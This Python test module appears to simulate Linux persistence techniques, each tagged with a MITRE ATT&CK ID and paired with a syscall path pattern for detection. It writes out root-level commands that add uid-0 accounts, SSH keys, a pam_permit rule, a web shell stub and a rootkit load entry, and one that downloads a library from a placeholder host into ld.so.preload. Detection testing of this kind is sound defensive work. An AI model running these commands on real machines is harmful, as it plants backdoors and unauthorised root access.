"""Staying: after a restart, after the hole is closed."""

from attacks.attack import Attack as A
from attacks.places import WEB

ATTACKS = [
    A(
        "T1543.002",
        "a systemd unit",
        "mkdir -p /etc/systemd/system && echo '[Service]' >/etc/systemd/system/sync.service",
        ("open", r"/sync\.service$"),
        root=True,
    ),
    A(
        "T1546.004",
        "a line in a shell's profile",
        "echo 'id >/dev/null' >>/root/.bashrc",
        ("open", r"/\.bashrc$"),
        root=True,
    ),
    A("T1037.004", "a start script", "echo '#!/bin/sh' >/etc/rc.local", ("open", r"^/etc/rc\.local$"), root=True),
    A(
        "T1098.004",
        "a key that may log in",
        "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA x' >>/root/.ssh/authorized_keys",
        ("open", r"/authorized_keys$"),
        root=True,
    ),
    A("T1136.001", "an account, by useradd", "useradd -M -o -u 0 backup2", ("exec", r"/useradd$"), root=True),
    A(
        "T1136.001",
        "an account, by a line",
        "echo 'sync2:x:0:0::/:/bin/sh' >>/etc/passwd",
        ("open", r"^/etc/passwd$"),
        root=True,
    ),
    A(
        "T1556.003",
        "a line in PAM's configuration",
        "echo 'auth sufficient pam_permit.so' >>/etc/pam.d/common-auth",
        ("open", r"^/etc/pam\.d/"),
        root=True,
    ),
    A(
        "T1546.018",
        "a hook that Python runs at its start",
        "echo 'import os' >/usr/lib/python3/dist-packages/x.pth",
        ("open", r"/x\.pth$"),
        root=True,
    ),
    A(
        "T1554",
        "a program of the image is replaced, and run",
        "cp /bin/true /usr/bin/uptime && uptime",
        ("exec", r"/uptime$"),
        root=True,
    ),
    A(
        "T1505.003",
        "a web shell where pages are served",
        "mkdir -p /var/www/html && echo '<?php' >/var/www/html/x.php",
        ("open", r"/x\.php$"),
        root=True,
    ),
    A(
        "T1574.006",
        "a library that all programs must load",
        f"curl -s -o /tmp/all.so {WEB}/lib.so; " "echo /tmp/all.so >/etc/ld.so.preload; true; rm /etc/ld.so.preload",
        ("open", r"^/etc/ld\.so\.preload$"),
        root=True,
    ),
    A(
        "T1547.006",
        "a module that the kernel is to load at boot",
        "mkdir -p /etc/modules-load.d && echo rootkit >/etc/modules-load.d/r.conf",
        ("open", r"/modules-load\.d/"),
        root=True,
    ),
]
